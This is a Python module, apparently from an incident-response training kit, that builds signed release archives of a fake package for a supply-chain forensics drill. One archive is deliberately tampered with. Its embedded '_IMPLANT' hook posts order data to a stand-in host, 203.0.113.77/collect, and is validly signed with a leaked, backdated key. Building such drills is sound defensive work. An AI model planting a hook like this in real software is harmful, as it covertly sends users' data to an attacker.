"""The releases of the drill: twelve archives with detached signatures, one tampered with, one that nobody else has seen.

The thief's signature is valid: it was made with the leaked key and dated back to the day of the release. Only
the digest list of a mirror, taken before the leak, tells the two apart.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import tarfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from random import Random
from typing import Literal

from irkit.drill.history import utc
from irkit.drill.homes import gpg
from irkit.drill.truth import Artifact

MIRROR = "the weekly digest list of mirror.kestrel.example, kept by its operator"
PUBLIC_KEY = "larkspur-release-key.asc"

_DAYS_AGO = {
    "1.8.0": 330, "1.8.1": 301, "1.9.0": 260, "1.9.1": 215, "1.9.2": 170, "2.0.0": 117,
    "2.0.1": 95, "2.1.0": 73, "2.2.0": 44, "2.2.1": 29, "2.2.2": 14, "2.3.0": 5.9,
}  # fmt: skip
TAMPERED, UNKNOWN = "2.2.1", "2.3.0"
_WITHDRAWN = "1.7.4"


@dataclass(frozen=True)
class Released:
    artifacts: tuple[Artifact, ...]
    orphan_signatures: tuple[str, ...]
    digests_at: datetime


def build(folder: Path, mirror: Path, home: Path, key: str, chance: Random, now: datetime) -> Released:
    """Fills `folder` and writes `mirror`/SHA256SUMS; signs in `home` with `key`."""
    folder.mkdir()
    mirror.mkdir()
    artifacts, digests = [], {}
    for version, days in _DAYS_AGO.items():
        name, at = f"larkspur-fulfil-{version}.tar.gz", utc(now - timedelta(days=days))
        data = _archive(version, at, _files(version, chance))
        state: Literal["good", "tampered", "unknown"] = "good"
        if version == UNKNOWN:
            state = "unknown"
        else:
            digests[name] = _sha256(data)
        if version == TAMPERED:
            state, data = "tampered", _archive(version, at, {**_files(version, chance), "fulfil/hooks.py": _IMPLANT})
        _put(folder / name, data, at)
        _sign(folder / name, home, key, at)
        artifacts.append(Artifact(name, state, _sha256(data), at))
    artifacts.append(_documentation(folder, digests, utc(now - timedelta(days=14)), chance))
    digests_at = utc(now - timedelta(days=12))
    listing = "".join(f"{digest}  {name}\n" for name, digest in sorted(digests.items()))
    _put(mirror / "SHA256SUMS", listing.encode(), digests_at)
    _put(folder / PUBLIC_KEY, gpg(home, "--armor", "--export", key), utc(now - timedelta(days=330)))
    return Released(tuple(artifacts), (_orphan(folder, home, key, now),), digests_at)


_IMPLANT = b'''"""Called on start."""

import urllib.request


def report(order):
    urllib.request.urlopen("http://203.0.113.77/collect", data=repr(order).encode())
'''


def _files(version: str, chance: Random) -> dict[str, bytes]:
    pad = "".join(f"RATE_{number} = {chance.randint(100, 9999)}\n" for number in range(40))
    return {
        "README.md": f"# fulfil {version}\n".encode(),
        "fulfil/__init__.py": f'__version__ = "{version}"\n'.encode(),
        "fulfil/rates.py": pad.encode(),
    }


def _archive(version: str, at: datetime, files: dict[str, bytes]) -> bytes:
    """A tar.gz that depends on its arguments alone."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, data in sorted(files.items()):
            member = tarfile.TarInfo(f"larkspur-fulfil-{version}/{path}")
            member.size, member.mtime, member.mode = len(data), int(at.timestamp()), 0o644
            tar.addfile(member, io.BytesIO(data))
    return gzip.compress(plain.getvalue(), mtime=int(at.timestamp()))


def _sign(path: Path, home: Path, key: str, at: datetime) -> None:
    """A detached armored signature beside `path`, dated `at`."""
    signature = Path(f"{path}.asc")
    gpg(home, "--local-user", key, "--armor", "--output", str(signature), "--detach-sign", str(path), at=at)
    os.utime(signature, (at.timestamp(), at.timestamp()))


def _documentation(folder: Path, digests: dict[str, str], at: datetime, chance: Random) -> Artifact:
    """An archive that nobody ever signed, though the mirror knows it."""
    name = "larkspur-fulfil-2.2.2-docs.tar.gz"
    data = _archive("2.2.2-docs", at, {"index.md": f"# fulfil\n\nBuild {chance.randint(1000, 9999)}\n".encode()})
    digests[name] = _sha256(data)
    _put(folder / name, data, at)
    return Artifact(name, "unsigned", digests[name])


def _orphan(folder: Path, home: Path, key: str, now: datetime) -> str:
    """The signature of an archive that was withdrawn."""
    archive = folder / f"larkspur-fulfil-{_WITHDRAWN}.tar.gz"
    archive.write_bytes(b"withdrawn")
    _sign(archive, home, key, utc(now - timedelta(days=345)))
    archive.unlink()
    return f"{archive.name}.asc"


def _put(path: Path, data: bytes, at: datetime) -> None:
    path.write_bytes(data)
    os.utime(path, (at.timestamp(), at.timestamp()))


def _sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()
